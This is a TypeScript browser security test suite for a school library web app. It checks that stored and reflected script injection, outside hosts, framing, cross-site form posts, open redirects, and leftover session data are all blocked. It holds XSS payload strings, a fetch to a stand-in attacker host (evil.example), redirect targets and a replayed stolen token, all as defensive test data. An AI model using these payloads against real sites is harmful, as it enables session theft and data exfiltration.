// engines: one
/**
 * Attacks 75 to 79 in a real browser: script in every text, frames, foreign hosts, redirects, the next user of the same
 * PC.
 */
import { readdirSync, readFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { collections } from "@rafta/library/collections/index";
import type { Page, Request } from "playwright-core";
import type PocketBase from "pocketbase";
import { expect, test } from "vitest";
import { responseAfter } from "../support/after.ts";
import type { Visit } from "../support/browser.ts";
import { withDemo } from "../support/demo.ts";
import { logIn } from "../support/people.ts";

const demoPassword = "rafta-demo-2026";

const demo = withDemo();

async function visitAs(email: string | null): Promise<Visit & { foreign: string[] }> {
	const visitor = await demo.visit();
	const foreign: string[] = [];
	visitor.page.on("request", (request) => {
		if (/^(https?|wss?):/.test(request.url()) && !request.url().startsWith(demo.url))
			foreign.push(request.url());
	});
	if (email) await logIn(visitor.page, email);
	return { ...visitor, foreign };
}

async function settled(page: Page): Promise<void> {
	await page.locator("h1").first().waitFor();
	await page.waitForLoadState("networkidle");
}

/** Runs, loads or changes the page if any screen renders it as more than text. */
const payload = `"><img src=x onerror="window.hit=1"><svg onload="window.hit=1"></svg><script>window.hit=1</script>javascript:window.hit=1`;
const short = `<img src=x onerror=hit=1>`;

/** Writes the payload into every text field of a record that accepts it; returns how many did. */
async function poison(admin: PocketBase, name: string, id: string): Promise<number> {
	const fields = collections.find((one) => one.name === name)?.fields ?? [];
	const taken = fields.map(async (field) => {
		if (field.type !== "text" && field.type !== "json") return false;
		const text = field.type === "text" && (field.max ?? 5000) < payload.length ? short : payload;
		const body = { [field.name]: field.type === "json" ? [text] : text };
		return admin
			.collection(name)
			.update(id, body)
			.then(() => true)
			.catch(() => false);
	});
	return (await Promise.all(taken)).filter(Boolean).length;
}

/** Opens a screen as a link does, without reloading the app. */
async function open(page: Page, path: string): Promise<void> {
	await page.evaluate((address) => history.pushState(null, "", address), path);
	await page.locator("h1").first().waitFor();
	await page.waitForFunction(() => !document.querySelector(".skeleton"));
}

test("75: script in every text field of every collection is text on every screen", async () => {
	const admin = await demo.signedIn("yonetici@rafta.test");
	const staff = await demo.signedIn("sorumlu@rafta.test");
	const school = String(staff.authStore.record?.school_id);
	const message = {
		name: payload.slice(0, 110),
		email: "x@rafta.test",
		subject: payload.slice(0, 190),
		message: payload,
	};
	await admin.collection("contacts").create(message);
	await admin.collection("tasks").create({ title: "x", status: "todo" });
	const screens: string[] = [];
	let taken = 0;
	let shown = 0;
	for (const { name, type, fields } of collections) {
		if (type === "view") continue;
		const isOfSchool = fields.some((field) => field.name === "school_id");
		const filter =
			name === "users" ? `id = "${staff.authStore.record?.id}"` : isOfSchool ? `school_id = "${school}"` : "";
		const [record] = (await admin.collection(name).getList(1, 1, { filter })).items;
		if (record) {
			taken += await poison(admin, name, record.id);
			screens.push(`/${name}/detail/${record.id}`, `/${name}/update/${record.id}`);
		}
		screens.push(`/${name}`, `/${name}/list`);
	}
	expect(taken).toBeGreaterThan(30);
	for (const email of ["yonetici@rafta.test", "sorumlu@rafta.test"]) {
		const { page, context, foreign } = await visitAs(email);
		const violations: string[] = [];
		page.on("console", (one) => {
			if (/Content Security Policy/i.test(one.text())) violations.push(one.text());
		});
		page.on("dialog", (dialog) => violations.push(dialog.message()));
		const desk = /^\/(students|library_books|book_loans|schools|libraries|users|books)\b/;
		const own = email.startsWith("yonetici") ? screens : screens.filter((path) => desk.test(path));
		for (const path of ["/", "/admin", "/admin/site-settings", `/schools/detail/${school}`, ...own]) {
			await open(page, path);
			shown += Number((await page.locator("body").textContent())?.includes("window.hit"));
			const harm = await page.evaluate(() => [
				(window as unknown as { hit?: number }).hit ?? 0,
				document.querySelectorAll(
					'img[src="x"], script:not([src]), [onload], [onerror], a[href^="javascript:"]',
				).length,
			]);
			expect(harm, `${email} ${path}`).toEqual([0, 0]);
		}
		expect([violations, foreign]).toEqual([[], []]);
		await context.close();
	}
	// It is shown, as plain text.
	expect(shown).toBeGreaterThan(3);
});

test("75: script in an address is text wherever a screen repeats it", async () => {
	const { page, context } = await visitAs(null);
	const text = encodeURIComponent(payload);
	// Slashes stay slashes in a path; percent-encoded ones are refused before any screen reads them.
	const inPath = encodeURIComponent(payload.replaceAll("/", ""));
	const refused = await page.goto(`/${text}`);
	expect([refused?.status(), refused?.headers()["content-type"]]).toEqual([
		400,
		expect.stringMatching(/^application\/json/),
	]);
	for (const path of [
		`/${inPath}`,
		`/users/login?next=${text}&error=${text}`,
		`/users/forgot-password?token=${text}`,
		`/students/${inPath}`,
		`/setup?token=${text}`,
		`/#${text}`,
	]) {
		await page.goto(path);
		await page.locator("h1").first().waitFor();
		expect(
			await page.evaluate(() => [
				(window as unknown as { hit?: number }).hit ?? 0,
				document.querySelectorAll('img[src="x"]').length,
			]),
			path,
		).toEqual([0, 0]);
	}
	await context.close();
});

test("76: the built app has no script of its own in the page, evaluates nothing and loads from nowhere else", async () => {
	const dist = join(import.meta.dirname, "..", "..", "apps", "web", "dist");
	const page = readFileSync(join(dist, "index.html"), "utf8");
	for (const [, attributes = "", content = ""] of page.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/g)) {
		expect([attributes, content.trim()]).toEqual([expect.stringMatching(/src="\/[^/]/), ""]);
	}
	expect(page).not.toMatch(/\son\w+=|<style|\sstyle=|(src|href)="(https?:)?\/\//);
	for (const name of readdirSync(join(dist, "assets"))) {
		if (!/\.(js|css)$/.test(name)) continue;
		const text = readFileSync(join(dist, "assets", name), "utf8");
		expect(text, name).not.toMatch(/\beval\(|new Function\(|importScripts\(/);
		expect(text, name).not.toMatch(/@import\s+(url\()?["']?https?:|url\(["']?(https?:)?\/\//);
		// Addresses that are names rather than targets: namespaces, error explanations, examples in forms.
		const hosts = [...text.matchAll(/["'`(](?:https?:)?\/\/([a-z0-9-]+(?:\.[a-z0-9-]+)+)/gi)].map(
			([, host = ""]) => host,
		);
		// jsDelivr is the barcode decoder's default source; the app sets another one (scanning.test.ts).
		const named =
			/^(fastly\.jsdelivr\.net|www\.w3\.org|react\.dev|developer\.mozilla\.org|reactjs\.org|.*\.example|example\.(org|com)|github\.com|.*\.gov\.tr)$/;
		expect(
			hosts.filter((host) => !named.test(host)),
			name,
		).toEqual([]);
	}
});

test("76: a walk through the app asks no other host and breaks no policy", async () => {
	const { page, context, errors, foreign } = await visitAs("sorumlu@rafta.test");
	for (const path of [
		"/",
		"/book_loans/create",
		"/students",
		"/library_books",
		"/schools/list",
		"/users",
		"/privacy",
	]) {
		await page.goto(path);
		await settled(page);
	}
	expect([errors.filter((text) => /Content Security Policy|Refused/i.test(text)), foreign]).toEqual([[], []]);
	// Injected script that gets into the page anyway runs nothing and reaches no host.
	const reached = await page.evaluate(async () => {
		const script = document.createElement("script");
		script.textContent = "window.hit = 1";
		document.body.append(script);
		const sent = await fetch("https://evil.example/x").then(
			() => "sent",
			() => "stopped",
		);
		return [(window as unknown as { hit?: number }).hit ?? 0, sent];
	});
	expect(reached).toEqual([0, "stopped"]);
	await context.close();
});

test("76: no other site shows it in a frame", async () => {
	const other = createServer((_request, response) =>
		response
			.setHeader("content-type", "text/html")
			.end(`<iframe src="${demo.url}/users/login" width="800" height="600"></iframe>`),
	);
	await new Promise<void>((resolve) => other.listen(0, "127.0.0.1", resolve));
	const { page, context } = await demo.visit();
	await page.goto(`http://127.0.0.1:${(other.address() as AddressInfo).port}/`);
	await page.waitForLoadState("networkidle");
	const inner = page.frames().find((frame) => frame !== page.mainFrame());
	const seen =
		(await inner
			?.locator("input")
			.count()
			.catch(() => 0)) ?? 0;
	expect(seen).toBe(0);
	await context.close();
	other.closeAllConnections();
	other.close();
});

test("77: a page of another site makes a signed-in browser change nothing", async () => {
	const staff = await demo.signedIn("sorumlu@rafta.test");
	const count = async () => (await staff.collection("students").getList(1, 1)).totalItems;
	const before = await count();
	const address = `${demo.url}/api/collections/students/records`;
	const forms = ["application/x-www-form-urlencoded", "text/plain", "multipart/form-data"].map(
		(type, n) =>
			`<form id="f${n}" method="post" enctype="${type}" action="${address}" target="t${n}"><input name="first_name" value="X"><input name="last_name" value="Y"><input name="reader_type" value="pupil"></form><iframe name="t${n}"></iframe>`,
	);
	const other = createServer((_request, response) =>
		response.setHeader("content-type", "text/html").end(forms.join("")),
	);
	await new Promise<void>((resolve) => other.listen(0, "127.0.0.1", resolve));
	const { page, context } = await visitAs("sorumlu@rafta.test");
	await page.goto(`http://127.0.0.1:${(other.address() as AddressInfo).port}/`);
	const isPosted = (request: Request) => request.method() === "POST" && request.url() === address;
	for (const n of forms.keys()) {
		const refusal = await responseAfter(page, isPosted, () =>
			page.evaluate((place) => document.forms[place]?.submit(), n),
		);
		expect([400, 415]).toContain(refusal.status());
	}
	const sent = await page.evaluate(async (url) => {
		const body = JSON.stringify({ first_name: "X", last_name: "Y", reader_type: "pupil" });
		const response = await fetch(url, {
			method: "POST",
			credentials: "include",
			headers: { "content-type": "application/json" },
			body,
		}).catch(() => null);
		return response?.status ?? 0;
	}, address);
	expect([0, 400, 401, 403]).toContain(sent);
	expect(await count()).toBe(before);
	expect(await context.cookies()).toEqual([]);
	await context.close();
	other.closeAllConnections();
	other.close();
});

test.each([
	"//evil.example",
	"https://evil.example/",
	"/\\evil.example",
	"javascript:window.hit=1",
	"%2F%2Fevil.example",
])("78: after signing in, ?next= and its like of %s lead nowhere else", async (target) => {
	const { page, context, foreign } = await visitAs(null);
	const names = ["next", "redirect", "returnTo", "url", "continue"];
	await page.goto(`/users/login?${names.map((name) => `${name}=${target}`).join("&")}`);
	await page.getByLabel("E-posta ya da kullanıcı adı").fill("sorumlu@rafta.test");
	await page.getByRole("textbox", { name: "Parola" }).fill(demoPassword);
	await page.getByRole("button", { name: "Giriş yap" }).click();
	await page.waitForURL(`${demo.url}/book_loans`);
	expect(foreign).toEqual([]);
	expect(await page.evaluate(() => (window as unknown as { hit?: number }).hit ?? 0)).toBe(0);
	await context.close();
});

/** Returns everything that the browser stores for the site, as one text. */
const stored = (page: Page): Promise<string> =>
	page.evaluate(async () => {
		const parts: unknown[] = [{ ...localStorage }, { ...sessionStorage }, document.cookie];
		for (const { name } of await indexedDB.databases()) {
			const database = await new Promise<IDBDatabase>((resolve, reject) => {
				const request = indexedDB.open(String(name));
				request.onsuccess = () => resolve(request.result);
				request.onerror = () => reject(request.error);
			});
			for (const store of database.objectStoreNames) {
				const all = database.transaction(store).objectStore(store).getAll();
				parts.push(
					await new Promise((resolve) => {
						all.onsuccess = () => resolve(all.result.map(String));
					}),
				);
			}
			database.close();
		}
		if ("caches" in window) {
			for (const name of await caches.keys()) {
				const cache = await caches.open(name);
				for (const request of await cache.keys())
					parts.push(request.url, await (await cache.match(request))?.text());
			}
		}
		return JSON.stringify(parts);
	});

test("79: the next one at the same PC finds nothing of who has signed out, on screen, behind the back button or in the browser's storage", async () => {
	const staff = await demo.signedIn("sorumlu@rafta.test");
	const [reader] = (await staff.collection("students").getList(1, 1, { sort: "full_name" })).items;
	const name = String(reader?.full_name);
	const { page, context } = await visitAs("sorumlu@rafta.test");
	await page.goto("/students/list");
	await page.getByText(name).first().waitFor();
	const token = await page.evaluate(() => localStorage.getItem("pocketbase_auth"));
	expect(await stored(page)).not.toContain(name);
	await page.getByRole("button", { name: /Hesap menüsü/ }).click();
	await page.getByRole("button", { name: "Çıkış yap" }).click();
	await page.getByRole("link", { name: "Giriş yap" }).first().waitFor();
	await expect.poll(() => page.evaluate(() => localStorage.getItem("pocketbase_auth"))).toBeNull();
	const rest = await stored(page);
	for (const secret of [name, String(token), "sorumlu@rafta.test", String(staff.authStore.record?.id)])
		expect(rest).not.toContain(secret);
	await page.goBack();
	await page.locator("h1").first().waitFor();
	expect(await page.getByText(name).count()).toBe(0);
	// Somebody else signs in without reloading the page.
	await page.goto("/users/login");
	await page.getByLabel("E-posta ya da kullanıcı adı").fill("ogrenci@rafta.test");
	await page.getByRole("textbox", { name: "Parola" }).fill(demoPassword);
	await page.getByRole("button", { name: "Giriş yap" }).click();
	await page.waitForURL((url) => url.pathname !== "/users/login");
	await page.goto("/students/list");
	await page.locator("h1").first().waitFor();
	expect(await page.getByText(name, { exact: true }).count()).toBe(0);
	await context.close();
});

test("79: the session of a copied storage is worth nothing in another browser, nor after sign-out in this one", async () => {
	const first = await visitAs("sorumlu@rafta.test");
	await expect.poll(() => first.page.evaluate(() => localStorage.getItem("pocketbase_auth"))).toBeTruthy();
	const stolen = String(await first.page.evaluate(() => localStorage.getItem("pocketbase_auth")));
	const second = await visitAs(null);
	await second.page.goto("/");
	await second.page.evaluate((text) => localStorage.setItem("pocketbase_auth", text), stolen);
	await second.page.goto("/students/list");
	await second.page.waitForURL(({ pathname }) => pathname !== "/students/list");
	await first.page.getByRole("button", { name: /Hesap menüsü/ }).click();
	const ended = await responseAfter(first.page, /\/sessions\/current\/end$/, () =>
		first.page.getByRole("button", { name: "Çıkış yap" }).click(),
	);
	expect(ended.status()).toBe(204);
	await first.page.getByRole("link", { name: "Giriş yap" }).first().waitFor();
	// Its decryption key is still in this browser; the session itself was ended.
	await first.page.evaluate((text) => localStorage.setItem("pocketbase_auth", text), stolen);
	await first.page.goto("/students/list");
	await first.page.waitForURL(({ pathname }) => pathname !== "/students/list");
	await first.context.close();
	await second.context.close();
});
